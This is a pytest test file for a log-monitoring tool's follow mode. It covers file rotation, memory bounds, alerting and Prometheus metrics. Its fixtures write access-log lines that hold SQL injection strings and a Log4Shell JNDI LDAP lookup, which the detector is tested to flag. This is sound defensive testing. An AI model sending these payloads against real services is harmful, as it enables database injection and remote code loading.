"""--follow as a user runs it: a real process tailing a file that grows and is rotated, alerting as it goes,
with the Prometheus endpoint scraped over HTTP on 127.0.0.1."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request

import pytest

from bastion.logs.follow import Tail

from tests.logs.support import access


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_tail_survives_rename_and_copytruncate_rotation(tmp_path):
    log = tmp_path / "access.log"
    log.write_text("old line\n")
    tail = Tail(log)
    assert tail.poll() == b""  # starts at the end
    with log.open("a") as out:
        out.write("one\ntw")
    assert tail.poll() == b"one\n"
    with log.open("a") as out:
        out.write("o\n")
    log.rename(tmp_path / "access.log.1")  # logrotate's default: rename, then a new file
    with (tmp_path / "access.log.1").open("a") as out:
        out.write("late\n")
    log.write_text("fresh\n")
    assert tail.poll() == b"two\nlate\nfresh\n"
    log.write_text("")  # copytruncate
    with log.open("a") as out:
        out.write("again\n")
    assert tail.poll() == b"again\n"
    tail.close()


def test_partial_line_memory_is_bounded(tmp_path):
    from bastion.logs.sources import MAX_LINE

    log = tmp_path / "a.log"
    log.write_text("")
    tail = Tail(log)
    with log.open("a") as out:
        out.write("x" * (MAX_LINE * 4))
    assert tail.poll() == b""
    assert len(tail._rest) <= MAX_LINE
    tail.close()


@pytest.mark.slow
def test_follow_alerts_through_rotation_and_exports_metrics(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(access("198.51.100.1", "/") + "\n")
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "bastion", "logs", str(log), "--follow", "--metrics-port", str(port)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        metrics = ""
        deadline = time.time() + 30
        while time.time() < deadline:
            try:
                metrics = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=2).read().decode()
                break
            except OSError:
                time.sleep(0.2)
        assert "bastion_http_requests_total" in metrics
        with log.open("a") as out:
            out.write(access("203.0.113.7", "/p?id=1%20UNION%20SELECT%201--", at=5) + "\n")
        os.rename(log, tmp_path / "access.log.1")
        log.write_text(access("203.0.113.8", "/?x=${jndi:ldap://203.0.113.8/a}", at=9) + "\n")
        lines = []
        deadline = time.time() + 30
        while time.time() < deadline and len(lines) < 2:
            lines.append(proc.stdout.readline())
        assert "bastion alert log-sql-injection" in lines[0] and "client=203.0.113.7" in lines[0]
        assert "bastion alert log-jndi-lookup" in lines[1] and "client=203.0.113.8" in lines[1]
        time.sleep(1.5)
        metrics = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=5).read().decode()
        assert 'bastion_log_incidents_total{severity="high",signal="log-sql-injection"} 1.0' in metrics
        assert 'bastion_log_signals_total{signal="log-jndi-lookup"} 1.0' in metrics
    finally:
        proc.send_signal(signal.SIGTERM)
        out, err = proc.communicate(timeout=30)
    assert proc.returncode == 0, err


def test_state_stays_bounded_however_many_clients_a_followed_log_brings(tmp_path):
    """Months of --follow meet millions of clients: windows, incidents and remembered targets keep their bounds."""
    from pathlib import Path

    from bastion.logs import sources
    from bastion.logs.analyzer import _inspect_cached
    from bastion.logs.run import Session, log_options

    lines = []
    for i in range(3000):
        client = f"198.18.{i // 250}.{i % 250 + 1}"
        lines += [access(client, f"/missing/{i}", status=404, at=i), access(client, f"/s?q=%27%20OR%201=1--{i}", at=i)]
    log = tmp_path / "access.log"
    log.write_text("\n".join(lines) + "\n")
    session = Session(log_options.parse({"max_clients": 500}))
    session.book.max_incidents = 1000
    session.read(sources.Source(str(log), Path(log)))
    assert session.analyzer.signals["log-sql-injection"] == 3000  # every client seen...
    assert len(session.analyzer.probing) == 500  # ...but only the 500 seen last are remembered
    assert len(session.book.incidents()) == 1000
    assert _inspect_cached.cache_info().maxsize == 8192
